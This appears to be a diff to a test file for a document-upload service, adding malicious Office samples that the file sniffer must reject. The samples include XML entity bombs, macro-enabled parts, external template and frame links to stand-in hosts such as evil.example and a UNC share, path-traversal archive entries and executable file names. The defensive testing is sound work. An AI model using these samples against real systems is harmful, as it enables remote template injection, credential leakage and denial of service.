@@ -16,7 +16,8 @@ from sapar.core.errors import DomainError
 from sapar.files.errors import REASONS, FileDamaged, FileDangerous, FileTypeRefused
 from sapar.files.models import StoredFile
 from sapar.files.services import safe_name, store
-from sapar.files.sniffing import DOCX, JPEG, PDF, PNG, XLSX, Danger, media_type
+from sapar.files.sniffing import DOCX, ENDINGS, JPEG, PDF, PNG, TEXT, XLSX, Danger, media_type
+from sapar.web.downloads import download_file
 from tests.cast import NOW, Cast
 
 
@@ -73,6 +74,17 @@ def archive_with(name: str) -> bytes:
     return out.getvalue()
 
 
+def fetching(kind: str, target: str) -> bytes:
+    """A document with a part at another machine."""
+    relation = (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
+        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
+        f'Target="{target}" TargetMode="External"/></Relationships>'
+    )
+    return office_file(**{"word___rels__settings.xml.rels": relation.encode()})
+
+
+CONTENT_TYPES = b'<Types><Override PartName="/word/document.xml" ContentType="%b"/></Types>'
 LAUGHS = (
     b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><document>&b;</document>'
 )
@@ -87,6 +99,38 @@ BOMBS: dict[str, tuple[Callable[[], bytes], str]] = {
         lambda: office_file(word__styles=b"", **{"word__styles.xml": LAUGHS}),
         "entities",
     ),
+    "entities behind a long remark": (
+        lambda: office_file(document=b"<!--" + b"x" * 200_000 + b"-->" + LAUGHS.partition(b"?>")[2]),
+        "entities",
+    ),
+    "entities behind many instructions": (
+        lambda: office_file(document=b"<?a b?>" * 20_000 + LAUGHS.partition(b"?>")[2]),
+        "entities",
+    ),
+    "document that calls itself one with macros": (
+        lambda: office_file(
+            **{
+                "[Content_Types].xml": CONTENT_TYPES
+                % b"application/vnd.ms-word.document.macroEnabled.main+xml"
+            }
+        ),
+        "macros",
+    ),
+    "macros under another name": (
+        lambda: office_file(
+            **{"[Content_Types].xml": CONTENT_TYPES % b"application/vnd.ms-office.vbaProject"}
+        ),
+        "macros",
+    ),
+    "sheet of macros": (lambda: office_file(**{"xl__macrosheets__sheet1.xml": b"<x/>"}), "macros"),
+    "template of the web": (lambda: fetching("attachedTemplate", "https://evil.example/t.dotm"), "elsewhere"),
+    "template of a neighbour": (lambda: fetching("attachedTemplate", "\\\\10.0.0.1\\x\\t.dotm"), "elsewhere"),
+    "template of a neighbour's file": (
+        lambda: fetching("attachedTemplate", "file://///10.0.0.1/x/t.dotm"),
+        "elsewhere",
+    ),
+    "object of the web": (lambda: fetching("oleObject", "HTTP://evil.example/x"), "elsewhere"),
+    "frame of the web": (lambda: fetching("frame", "mhtml:https://evil.example/x"), "elsewhere"),
     "macros": (lambda: office_file(**{"word__vbaProject.bin": b"x"}), "macros"),
     "part outside its folder": (lambda: archive_with("../../etc/cron.d/x"), "bomb"),
     "part at the root": (lambda: archive_with("/etc/passwd"), "bomb"),
@@ -160,3 +204,53 @@ def test_damaged_archive_does_not_crash(content: bytes) -> None:
 )
 def test_name_steers_nothing(given: str, kept: str) -> None:
     assert safe_name(given) == kept
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        fetching("hyperlink", "https://sapar.example/"),
+        fetching("attachedTemplate", "file:///C:/Users/Aigul/AppData/Templates/Normal.dotm"),
+        fetching("attachedTemplate", "Normal.dotm"),
+        office_file(document=b"<!-- made by an office program --><document/>"),
+    ],
+    ids=["link", "own template", "named template", "remark"],
+)
+def test_what_office_programs_write_is_taken(content: bytes) -> None:
+    assert media_type(content) == DOCX
+
+
+PROGRAMS = (
+    "cv.hta",
+    "plan.bat",
+    "x.pdf.exe",
+    "page.html",
+    "drawing.svg",
+    "run.cmd",
+    "x.js",
+    "x.lnk",
+    "noending",
+)
+KINDS = {
+    PDF: b"%PDF-1.7 x",
+    DOCX: document(),
+    XLSX: workbook(),
+    PNG: png(2, 2),
+    JPEG: jpeg(2, 2),
+    TEXT: b"start calc.exe",
+}
+
+
+@pytest.mark.parametrize("given", PROGRAMS)
+@pytest.mark.parametrize("kind", KINDS)
+def test_name_ends_with_what_the_content_is(cast: Cast, given: str, kind: str) -> None:
+    stored = store(KINDS[kind], given, office=cast.office, by=cast.officer, at=NOW)
+    assert stored.name.endswith(ENDINGS[kind])
+    old = StoredFile(name=given, media_type=kind, content=stored.content)
+    answer = download_file(old)
+    assert stored.name in answer["Content-Disposition"]
+    assert answer["Content-Disposition"].startswith("attachment")
+    assert (answer["X-Content-Type-Options"], answer["Content-Security-Policy"]) == (
+        "nosniff",
+        "default-src 'none'; sandbox",
+    )
